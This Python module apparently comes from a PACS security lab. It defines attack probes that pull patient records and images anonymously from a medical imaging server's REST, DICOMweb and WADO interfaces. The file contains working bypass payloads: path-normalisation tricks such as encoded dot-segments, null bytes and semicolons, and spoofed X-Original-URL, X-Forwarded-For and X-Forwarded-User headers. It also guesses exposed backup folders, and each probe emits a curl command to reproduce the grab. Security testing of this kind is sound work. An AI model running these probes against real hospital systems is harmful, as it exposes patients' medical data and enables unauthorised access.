"""Anonymous attacks over the web: REST API, DICOMweb, WADO, path spellings, served folders."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import httpx

from pacslab.probes.attack.web_helpers import (
    FIND_ALL_STUDIES,
    at_each_web_address,
    curl,
    json_content,
    patient_in_words,
    records,
    statuses,
)
from pacslab.probes.findings import Side
from pacslab.probes.registry import ProbeResult, probe
from pacslab.scenario import Severity

if TYPE_CHECKING:
    from pacslab.probes.target import Target

_READS = ("/patients?expand", "/studies?expand", "/instances", "/changes", "/statistics", "/tools/find")
_SPELLINGS = (
    "//patients",
    "/./patients",
    "/patients/",
    "/%70atients",
    "/%2Fpatients",
    "/PATIENTS",
    "/app/../patients",
    "/app/%2e%2e/patients",
    "/patients%00",
    "/patients;/app",
    "/patients?expand",
    "/series",
    "/instances",
    "/changes?limit=1",
    "/statistics",
    "/dicom-web/../patients",
)
_HEADERS = (
    {"X-Original-URL": "/patients"},
    {"X-Forwarded-For": "127.0.0.1"},
    {"X-Forwarded-User": "administrator"},
    {"X-HTTP-Method-Override": "GET"},
)
_FOLDERS = ("backup", "backups", "old", "archive", "export", "files", "share", "public", "dicom", "data")


@probe("http-anonymous-rest", Side.ATTACK, "Read patients over the web, no password", Severity.CRITICAL)
@at_each_web_address
def read_anonymously(target: Target, url: str) -> ProbeResult:
    """Ask the web interface for its patients, as any browser can, without logging in."""
    answered: set[int] = set()
    with target.visitor(url) as client:
        for path in _READS:
            search = path == "/tools/find"
            answer = client.post(path, json=FIND_ALL_STUDIES) if search else client.get(path)
            answered.add(answer.status_code)
            found = records(answer)
            if found:
                first = patient_in_words(found[0])
                shown = f", the first of {first}" if first else ""
                asked = curl(url + path, "-d", f"'{_FIND_BODY}'") if search else curl(url + path)
                words = f"{path.split('?')[0]} gave {len(found)} records to somebody without a password{shown}."
                return ProbeResult(True, words, asked)
    return ProbeResult(
        False,
        f"{len(_READS)} questions without a password were answered with {statuses(answered)} and no data.",
        curl(f"{url}/patients", "-i"),
    )


_FIND_BODY = '{"Level": "Study", "Query": {}, "Expand": true}'


def _dicomweb_options(target: Target) -> dict[str, Any]:
    section = target.configuration.get("DicomWeb")
    return section if isinstance(section, dict) else {}


def _patient_name(study: Any) -> str:
    try:
        return str(study["00100010"]["Value"][0]["Alphabetic"]).replace("^", " ")
    except (KeyError, IndexError, TypeError):
        return ""


@probe("http-anonymous-dicomweb", Side.ATTACK, "Read studies over DICOMweb, no password", Severity.CRITICAL)
@at_each_web_address
def read_dicomweb_anonymously(target: Target, url: str) -> ProbeResult:
    """Ask the DICOMweb service, which web viewers use and which has no password of its own, for its studies."""
    roots = sorted({"/dicom-web/", "/" + str(_dicomweb_options(target).get("Root", "/dicom-web/")).strip("/") + "/"})
    answered: set[int] = set()
    with target.visitor(url) as client:
        for root in roots:
            answer = client.get(f"{root}studies", headers={"Accept": "application/dicom+json"})
            answered.add(answer.status_code)
            found = json_content(answer)
            if found and isinstance(found, list):
                name = _patient_name(found[0])
                first = f", the first of {name}" if name else ""
                words = f"{root}studies listed {len(found)} studies without a password{first}."
                return ProbeResult(True, words, curl(f"{url}{root}studies"))
    return ProbeResult(
        False, f"DICOMweb answered with {statuses(answered)} and no data.", curl(f"{url}/dicom-web/studies", "-i")
    )


@probe("http-anonymous-wado", Side.ATTACK, "Fetch an image by its UIDs, no password", Severity.HIGH)
@at_each_web_address
def read_wado_anonymously(target: Target, url: str) -> ProbeResult:
    """Ask WADO, the oldest of DICOM's web addresses, for one image: its UIDs stand in every copy and report."""
    paths = sorted({"/wado", "/" + str(_dicomweb_options(target).get("WadoRoot", "/wado")).strip("/")})
    study = target.key.study(target.key.facts["clinic_study_uid"])
    instance = study.instances[0]
    question = {
        "requestType": "WADO",
        "studyUID": study.study_instance_uid,
        "seriesUID": instance.series_instance_uid,
        "objectUID": instance.sop_instance_uid,
    }
    answered: set[int] = set()
    asked = ""
    with target.visitor(url) as client:
        for path in paths:
            with target.drawing:
                answer = client.get(path, params=question)
            asked = url + answer.request.url.raw_path.decode("ascii", "replace")
            answered.add(answer.status_code)
            picture = answer.headers.get("content-type", "").startswith(("image/", "application/dicom"))
            if answer.status_code == httpx.codes.OK and answer.content and picture:
                words = f"{path} gave an image of {len(answer.content):,} bytes without a password."
                return ProbeResult(True, words, curl(asked, "-o", "image"))
    return ProbeResult(False, f"WADO answered with {statuses(answered)} and no image.", curl(asked or url, "-i"))


@probe("http-path-tricks", Side.ATTACK, "Read through a forgotten spelling of a path", Severity.CRITICAL)
@at_each_web_address
def read_by_tricks(target: Target, url: str) -> ProbeResult:
    """Where the plain path is locked, try other spellings, headers and neighbours of it, without logging in."""
    tried = 0
    with target.visitor(url) as client:
        if records(client.get("/patients")):
            return ProbeResult(False, "The plain path is open already; no trick is needed.", curl(f"{url}/patients"))
        for path, headers in [
            *((spelling, {}) for spelling in _SPELLINGS),
            *(("/patients", header) for header in _HEADERS),
        ]:
            tried += 1
            # The path is sent exactly as written: a library that tidies it would hide the trick.
            found = records(client.get("/", headers=headers, extensions={"target": path.encode("ascii")}))
            if found:
                options = [part for name, value in headers.items() for part in ("-H", f"'{name}: {value}'")]
                return ProbeResult(
                    True,
                    f"/patients is locked, and {path} {'with a header ' if headers else ''}gave "
                    f"{len(found)} records of the same data to somebody without a password.",
                    curl(url + path, "--path-as-is", *options),
                )
    return ProbeResult(
        False,
        f"{tried} other spellings of the locked path gave no data either.",
        curl(f"{url}//patients", "-i", "--path-as-is"),
    )


@probe("http-served-folder", Side.ATTACK, "Fetch files from a served folder", Severity.HIGH)
@at_each_web_address
def read_served_folder(target: Target, url: str) -> ProbeResult:
    """Look for folders that the web server gives away, such as last year's backup, without logging in."""
    served = target.configuration.get("ServeFolders")
    named = list(served) if isinstance(served, dict) else []
    named += [path for path in target.served_paths if path not in named]
    tried: set[int] = set()
    with target.visitor(url) as client:
        for folder in dict.fromkeys([*(str(folder).strip("/") for folder in named), *_FOLDERS]):
            answer = client.get(f"/{folder}/")
            tried.add(answer.status_code)
            if answer.status_code != httpx.codes.OK:
                continue
            file = _first_file(answer.text)
            got = client.get(f"/{folder}/{file}") if file else answer
            if file and got.status_code == httpx.codes.OK and got.content:
                kind = _file_kind(got.content)
                return ProbeResult(
                    True,
                    f"/{folder}/ is listed for everybody, and {file} came without a password: "
                    f"{len(got.content):,} bytes, {kind}.",
                    curl(f"{url}/{folder}/{file}", "-O"),
                )
    return ProbeResult(False, f"No folder with files was found ({statuses(tried)}).", curl(f"{url}/backup/", "-i"))


def _first_file(listing: str) -> str:
    links = re.findall(r'href="([^"?#]+)"', listing)
    return next((link.rsplit("/", 1)[-1] for link in links if "." in link.rsplit("/", 1)[-1].strip(".")), "")


def _file_kind(file: bytes) -> str:
    if file[:2] == b"PK":
        return "a ZIP archive"
    return "a DICOM file" if file[128:132] == b"DICM" else "a file"
